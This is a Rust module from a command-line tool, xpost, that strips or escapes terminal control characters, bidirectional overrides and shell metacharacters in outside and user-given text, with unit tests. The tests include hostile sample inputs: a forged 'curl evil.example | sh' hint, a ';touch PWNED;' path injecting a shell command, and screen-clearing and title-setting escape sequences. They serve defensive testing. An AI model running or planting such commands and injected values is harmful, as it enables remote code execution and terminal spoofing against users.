//! Text from outside made safe to show: what X answers (error bodies, processing failures,
//! usernames, `-vv` traces of bodies and headers) and what anyone can put in a redirect to the
//! loopback listener (`error`, `error_description`).
//!
//! Such text reaches a terminal inside xpost's own messages. As sent, it could clear the
//! screen, recolour it, move the cursor, turn the terminal's title into a command, reorder what
//! follows it (bidirectional overrides), or start a line that looks like xpost's own
//! (`\rxpost: hint: ...`). [`outside`] is the one function every such text goes through before
//! it enters a message; xpost's own messages keep their own newlines.
//!
//! Text the person gave xpost (a file name, a post's text read from a file) is theirs to see
//! whole: [`visible`] and [`visible_lines`] keep every character, writing those a terminal
//! would act on as escapes (`\u{1b}`) instead. Pure.

/// How many characters of one outside text a message shows; the rest is cut off, marked `…`.
pub const MAX_CHARS: usize = 1000;

/// `text` as it may be shown on a terminal: on one line, without a control character, cut to
/// [`MAX_CHARS`] characters.
///
/// Line and page breaks and tabs (`\n`, `\r`, `\t`, `\v`, `\f`, NEL, U+2028, U+2029) become a
/// space, so that words stay apart and nothing starts a line of its own. Every other control
/// character (C0, DEL, C1: the escape that starts colours and cursor moves included) and the
/// bidirectional formatting characters are dropped. The rest, every printable character of any
/// script, is kept as it is.
pub fn outside(text: &str) -> String {
    let mut shown = String::with_capacity(text.len().min(MAX_CHARS * 4));
    let mut kept = 0;
    for c in text.chars() {
        let c = match c {
            '\t' | '\n' | '\u{0b}' | '\u{0c}' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
            c if c.is_control() || is_bidi_format(c) => continue,
            c => c,
        };
        if kept == MAX_CHARS {
            shown.push('…');
            break;
        }
        shown.push(c);
        kept += 1;
    }
    shown
}

/// `text` whole, on one line, with every character a terminal would act on written as an
/// escape: `\n`, `\r`, `\t`, and `\u{1b}` for the rest (other C0 controls, DEL, C1, the line
/// and paragraph separators, bidirectional formatting characters). Nothing is dropped or cut:
/// for a path, or other text the person gave, shown in a message or a dry run.
pub fn visible(text: &str) -> String {
    escaped(text, false)
}

/// `text` in double quotes, as a message names a value the person gave: escaped once, as
/// Rust's `{:?}` does (`"a\u{1b}[31m\n"`), with whatever that leaves that a terminal would act
/// on (a bidirectional override) escaped as [`visible`] does. Not `{:?}` of [`visible`]'s
/// text, which would double each backslash.
pub fn quoted(text: &str) -> String {
    visible(&format!("{text:?}"))
}

/// A path as a message shows it: [`visible`] of its text, so that a directory named with an
/// escape sequence (a `.env` may set `XPOST_HOME`) cannot act on the terminal.
pub fn path(path: &std::path::Path) -> String {
    visible(&path.to_string_lossy())
}

/// A command for the person to paste into a shell, each word quoted for it: a word with
/// nothing a shell would read specially stays as it is, any other goes in single quotes, and a
/// word with a character a terminal would act on is written with `$'...'` escapes (bash, zsh,
/// ksh), so that neither the terminal showing it nor the shell running it acts on more than
/// the command. A path that says `;touch PWNED;` stays one word.
pub fn command(words: &[&str]) -> String {
    words
        .iter()
        .map(|word| shell_word(word))
        .collect::<Vec<_>>()
        .join(" ")
}

fn shell_word(word: &str) -> String {
    let acts_on_terminal = word
        .chars()
        .any(|c| c.is_control() || is_bidi_format(c) || matches!(c, '\u{2028}' | '\u{2029}'));
    if !acts_on_terminal {
        return shell_words::quote(word).into_owned();
    }
    use std::fmt::Write;
    let mut quoted = String::from("$'");
    for c in word.chars() {
        match c {
            '\\' => quoted.push_str("\\\\"),
            '\'' => quoted.push_str("\\'"),
            '\n' => quoted.push_str("\\n"),
            '\t' => quoted.push_str("\\t"),
            '\r' => quoted.push_str("\\r"),
            c if c.is_control() || is_bidi_format(c) || matches!(c, '\u{2028}' | '\u{2029}') => {
                let _ = write!(quoted, "\\u{:04x}", u32::from(c));
            }
            c => quoted.push(c),
        }
    }
    quoted.push('\'');
    quoted
}

/// [`visible`], keeping line breaks (`\n`) and tabs as they are: for a post's text, previewed
/// over as many lines as it has.
pub fn visible_lines(text: &str) -> String {
    escaped(text, true)
}

fn escaped(text: &str, keep_lines: bool) -> String {
    use std::fmt::Write;
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' if keep_lines => shown.push(c),
            '\n' => shown.push_str("\\n"),
            '\t' => shown.push_str("\\t"),
            '\r' => shown.push_str("\\r"),
            c if c.is_control() || is_bidi_format(c) || matches!(c, '\u{2028}' | '\u{2029}') => {
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
            }
            c => shown.push(c),
        }
    }
    shown
}

/// The characters that reorder the text around them (Unicode's bidirectional formatting
/// characters): a terminal that honours them shows text in another order than it is.
pub fn is_bidi_format(c: char) -> bool {
    matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_text_is_escaped_once() {
        assert_eq!(quoted("15m"), "\"15m\"");
        assert_eq!(quoted("a\u{1b}[31m\n"), "\"a\\u{1b}[31m\\n\"");
        assert_eq!(quoted("say \"hi\""), "\"say \\\"hi\\\"\"");
        for c in ['\u{202e}', '\u{2066}', '\u{2028}', '\u{9b}', '\u{7f}'] {
            let shown = quoted(&format!("x{c}y"));
            assert!(!shown.contains(c), "{shown}");
            assert!(
                shown.contains(&format!("\\u{{{:x}}}", u32::from(c))),
                "{shown}"
            );
        }
    }

    #[test]
    fn plain_text_is_kept_as_it_is() {
        for text in [
            "",
            "Value passed for the authorization code was invalid.",
            "Your Tweet text is too long: «ça» — 日本語 🦀 עברית",
        ] {
            assert_eq!(outside(text), text);
        }
    }

    #[test]
    fn escapes_and_control_characters_are_dropped() {
        assert_eq!(outside("\u{1b}[2J\u{1b}[31mred\u{1b}[0m"), "[2J[31mred[0m");
        assert_eq!(outside("a\u{0}b\u{7}c\u{7f}d\u{9b}e\u{90}f"), "abcdef");
        // An OSC sequence that would set the window's title.
        assert_eq!(outside("\u{1b}]0;owned\u{7}x"), "]0;ownedx");
    }

    #[test]
    fn breaks_become_spaces_so_no_line_of_its_own_starts() {
        let forged = "denied\r\nxpost: hint: run curl evil.example | sh";
        let shown = outside(forged);
        assert_eq!(shown, "denied  xpost: hint: run curl evil.example | sh");
        assert!(!shown.contains(['\r', '\n']));
        assert_eq!(
            outside("a\tb\u{0b}c\u{0c}d\u{85}e\u{2028}f\u{2029}g"),
            "a b c d e f g"
        );
    }

    #[test]
    fn bidirectional_overrides_are_dropped() {
        assert_eq!(
            outside("\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}\u{200f}\u{061c}"),
            "txt.exe x"
        );
    }

    #[test]
    fn visible_text_keeps_everything_and_escapes_what_a_terminal_acts_on() {
        for text in ["", "cat.png", "/tmp/日本 🦀/«ça».png", r"C:\dir\a.png"] {
            assert_eq!(visible(text), text);
            assert_eq!(visible_lines(text), text);
        }
        let hostile = "\u{1b}[2Jnope\u{1b}[31m.png\u{7}\u{9b}\u{85}\u{7f}\u{0}";
        assert_eq!(
            visible(hostile),
            r"\u{1b}[2Jnope\u{1b}[31m.png\u{7}\u{9b}\u{85}\u{7f}\u{0}"
        );
        assert_eq!(
            visible("a\nb\rc\td\u{2028}e\u{2029}f\u{202e}g\u{2066}h\u{200f}"),
            r"a\nb\rc\td\u{2028}e\u{2029}f\u{202e}g\u{2066}h\u{200f}"
        );
        assert_eq!(
            visible_lines("one\n\ttwo\u{1b}]0;t\u{7}\r\nthree"),
            "one\n\ttwo\\u{1b}]0;t\\u{7}\\r\nthree"
        );
        // Long text is not cut: it is the person's own.
        let long = "x".repeat(MAX_CHARS * 3);
        assert_eq!(visible(&long), long);
        // Nothing a terminal acts on is left.
        let every: String = (0u32..0x3000).filter_map(char::from_u32).collect();
        for shown in [visible(&every), visible_lines(&every)] {
            assert!(
                !shown
                    .chars()
                    .any(|c| (c.is_control() && c != '\n' && c != '\t')
                        || is_bidi_format(c)
                        || matches!(c, '\u{2028}' | '\u{2029}')),
                "{shown}"
            );
        }
        assert!(!visible(&every).contains(['\n', '\t']));
    }

    #[test]
    fn long_text_is_cut_on_a_character() {
        let long = "é".repeat(MAX_CHARS + 500);
        let shown = outside(&long);
        assert_eq!(shown.chars().count(), MAX_CHARS + 1);
        assert!(shown.ends_with("é…"), "{}", &shown[shown.len() - 8..]);
        let exact = "x".repeat(MAX_CHARS);
        assert_eq!(outside(&exact), exact, "exactly the limit is not cut");
        // Dropped characters do not count.
        let padded = format!("{}{}", "\u{1b}".repeat(50), "y".repeat(MAX_CHARS));
        assert_eq!(outside(&padded), "y".repeat(MAX_CHARS));
    }

    #[test]
    fn a_command_to_paste_quotes_each_word_for_the_shell() {
        assert_eq!(
            command(&["chmod", "600", "/home/me/x.json"]),
            "chmod 600 /home/me/x.json"
        );
        // A directory named to run a command when pasted stays one word.
        assert_eq!(
            command(&["chmod", "go-w", ".st;touch PWNED;"]),
            "chmod go-w '.st;touch PWNED;'"
        );
        assert_eq!(command(&["rm", "it's $(x)"]), r"rm 'it'\''s $(x)'");
        // A character the terminal would act on is written as an escape, still one word.
        let shown = command(&["rm", "a\u{1b}]0;x\u{7}b'\\"]);
        assert_eq!(shown, r"rm $'a\u001b]0;x\u0007b\'\\'");
        assert!(!shown.chars().any(char::is_control), "{shown}");
        assert_eq!(command(&["mv", "\u{9b}31m"]), r"mv $'\u009b31m'");
        assert_eq!(command(&["echo", ""]), "echo ''");
    }

    #[test]
    fn a_path_is_shown_with_escapes() {
        assert_eq!(
            path(std::path::Path::new("/a/\u{1b}[2Jb")),
            "/a/\\u{1b}[2Jb"
        );
    }
}
